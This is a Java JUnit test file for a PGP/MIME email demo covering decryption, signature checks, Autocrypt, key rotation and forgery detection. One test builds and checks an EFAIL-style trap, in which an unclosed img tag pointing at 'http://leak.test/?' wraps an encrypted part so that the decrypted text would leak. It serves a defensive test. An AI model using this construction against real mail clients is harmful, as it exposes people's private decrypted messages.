package org.sealpost.demo;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.time.InstantSource;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sealpost.endtoend.Certificate;
import org.sealpost.endtoend.SecretKey;
import org.sealpost.endtoend.SignatureFound.Standing;
import org.sealpost.mail.Address;
import org.sealpost.mail.RawMessage;
import org.sealpost.mime.SplitEntity;
import org.sealpost.openpgp.Autocrypt;
import org.sealpost.openpgp.OpenPgp;
import org.sealpost.openpgp.PgpMime;
import org.sealpost.openpgp.WebKeyDirectory;

class FinnTest {

    private static final InstantSource CLOCK = InstantSource.system();
    private static final SecureRandom RANDOM = new SecureRandom();
    private static final String LETTER = "From: Sam Berger <sam@clinic.test>\r\nTo: finn@pgp.test\r\nSubject: The biopsy\r\nMessage-ID: <1@clinic.test>\r\n"
            + "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nIt is benign.\r\n"
            + "--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"biopsy.txt\"\r\n\r\nx\r\n--b--\r\n";

    private final OpenPgp pgp = new OpenPgp(CLOCK, RANDOM);
    private final PgpMime mime = new PgpMime(pgp, RANDOM);
    private final SecretKey sam = pgp.generate("Sam Berger <sam@clinic.test>", Duration.ofDays(100));

    @TempDir
    private Path folder;

    private FinnsKeys keys;
    private Mailboxes mailboxes;
    private Optional<Certificate> published = Optional.empty();
    private Finn finn;

    @BeforeEach
    void begin() throws Exception {
        keys = new FinnsKeys(folder, folder, CLOCK, RANDOM);
        keys.begin();
        mailboxes = new Mailboxes(folder.resolve("mailboxes"));
        finn = new Finn(keys, mailboxes, address -> published, CLOCK, RANDOM);
    }

    @Test
    void heReadsWhatNobodyElseCanAndSeesWhoSignedIt() throws Exception {
        published = Optional.of(pgp.certificate(sam));
        byte[] came = sealed(Optional.of(sam));
        assertFalse(new String(came, StandardCharsets.UTF_8).contains("benign"));
        Unsealed read = finn.read(came).orElseThrow();
        assertEquals("The biopsy", read.mail().subject());
        assertEquals("It is benign.", read.mail().text());
        assertEquals(List.of("biopsy.txt"), read.mail().attachments());
        assertEquals("Signed by sam@clinic.test, and the signature is good", read.signature());
        assertTrue(read.good());
        assertTrue(read.cipher().orElseThrow().startsWith("AES-"), read.cipher().toString());
    }

    @Test
    void whatIsNotSignedOrNotBySamIsNeverCalledGood() throws Exception {
        published = Optional.of(pgp.certificate(sam));
        assertEquals("Not signed", finn.read(sealed(Optional.empty())).orElseThrow().signature());
        Unsealed other = finn.read(sealed(Optional.of(pgp.generate("Sam Berger <sam@clinic.test>", Duration.ofDays(1))))).orElseThrow();
        assertEquals("Signed with a key that isn’t known as one of sam@clinic.test", other.signature());
        assertFalse(other.good());
        published = Optional.of(pgp.certificate(pgp.generate("Eve <eve@sts.test>", Duration.ofDays(1))));
        assertFalse(finn.read(sealed(Optional.of(sam))).orElseThrow().good());
    }

    @Test
    void whatIsForOthersOrNeedsNoKeyIsShownAsItCame() throws Exception {
        ByteArrayOutputStream others = new ByteArrayOutputStream();
        mime.encrypt(RawMessage.of(LETTER.getBytes(StandardCharsets.US_ASCII)), "[...]", others, List.of(pgp.certificate(sam)), Optional.empty());
        assertEquals(Optional.empty(), finn.read(others.toByteArray()));
        assertEquals(Optional.empty(), finn.read(LETTER.getBytes(StandardCharsets.US_ASCII)));
    }

    @Test
    void heEncryptsToWhoeverHandedOutAKeyAndToNobodyElse() throws Exception {
        assertEquals(Optional.empty(), finn.sealed(toSam(), "sam@clinic.test"));
        ByteArrayOutputStream signed = new ByteArrayOutputStream();
        String field = Autocrypt.written(Address.of("sam@clinic.test"), true, pgp.keys().certificate(pgp.certificate(sam).octets()), pgp.keys()).orElseThrow();
        mime.sign(RawMessage.of(("Autocrypt: " + field + "\r\n" + LETTER).getBytes(StandardCharsets.US_ASCII)), signed, sam);
        keep(signed.toByteArray());
        byte[] written = finn.sealed(toSam(), "sam@clinic.test").orElseThrow();
        assertFalse(new String(written, StandardCharsets.UTF_8).contains("The results"));
        ByteArrayOutputStream clear = new ByteArrayOutputStream();
        var opened = mime.decrypt(RawMessage.of(written), clear, List.of(sam), List.of(keys.certificate()));
        assertEquals(Standing.GOOD, opened.signatures().get(0).standing());
        assertTrue(clear.toString(StandardCharsets.UTF_8).contains("The results"));
        assertEquals(Optional.empty(), finn.sealed(toSam(), "ada@clinic.test"));
    }

    @Test
    void whatHeWritesHandsOutHisKeyAndWhatAForgerWritesIsNotSignedWithIt() throws Exception {
        byte[] signed = finn.signed(toSam());
        assertEquals(Standing.GOOD, standing(signed));
        var header = Autocrypt.of(SplitEntity.of(RawMessage.of(signed).open()).header()).orElseThrow();
        assertEquals(Address.of("finn@pgp.test"), header.address());
        assertEquals(fingerprint(keys.certificate()), fingerprint(header.certificate()));
        assertEquals(Standing.UNKNOWN_SIGNER, standing(finn.forged(toSam())));
    }

    @Test
    void aNewKeyIsPublishedAndTheOldOneStillReads() throws Exception {
        byte[] before = sealed(Optional.empty());
        String old = fingerprint(keys.certificate());
        finn.changeKey();
        assertNotEquals(old, fingerprint(keys.certificate()));
        byte[] published = keys.document(WebKeyDirectory.advanced(Address.of("finn@pgp.test")).getPath()).orElseThrow().octets();
        assertEquals(fingerprint(keys.certificate()), fingerprint(new Certificate(published)));
        assertEquals("The biopsy", finn.read(before).orElseThrow().mail().subject());
        assertEquals(Standing.GOOD, standing(finn.signed(toSam())));
        String file = Files.readString(folder.resolve("finn.asc"));
        assertEquals(2, file.lines().filter("-----BEGIN PGP PRIVATE KEY BLOCK-----"::equals).count());
        assertEquals(Optional.empty(), keys.document("/.well-known/openpgpkey/pgp.test/hu/another"));
    }

    @Test
    void anEncryptedPartAmongOthersIsNoEncryptedMessage() throws Exception {
        published = Optional.of(pgp.certificate(sam));
        byte[] trap = Peers.hidden(finn.sealed(toSam(), "sam@clinic.test").orElseThrow());
        String text = new String(trap, StandardCharsets.UTF_8);
        assertFalse(mime.isEncrypted(RawMessage.of(trap)));
        assertTrue(text.contains("\r\nContent-Type: multipart/mixed; boundary=\"efail\"\r\n"));
        assertTrue(text.indexOf("<img src=\"http://leak.test/?\r\n--efail\r\nContent-Type: multipart/encrypted;") > 0, text);
        assertTrue(text.contains("-----BEGIN PGP MESSAGE-----"));
    }

    private Standing standing(byte[] message) throws Exception {
        return mime.verify(RawMessage.of(message), new ByteArrayOutputStream(), List.of(keys.certificate())).get(0).standing();
    }

    private String fingerprint(Certificate certificate) throws Exception {
        return pgp.keys().certificate(certificate.octets()).fingerprint();
    }

    private byte[] sealed(Optional<SecretKey> signer) throws Exception {
        ByteArrayOutputStream message = new ByteArrayOutputStream();
        mime.encrypt(RawMessage.of(LETTER.getBytes(StandardCharsets.US_ASCII)), "[...]", message, List.of(keys.certificate()), signer);
        return message.toByteArray();
    }

    private void keep(byte[] message) throws Exception {
        mailboxes.keep(Correspondent.FINN, CLOCK.instant(), Optional.empty(), "sam@clinic.test", message);
    }

    private static byte[] toSam() {
        return Letters.toSam(Correspondent.FINN, FinnsKeys.NAME, "The results", "here they are.", CLOCK.instant());
    }
}
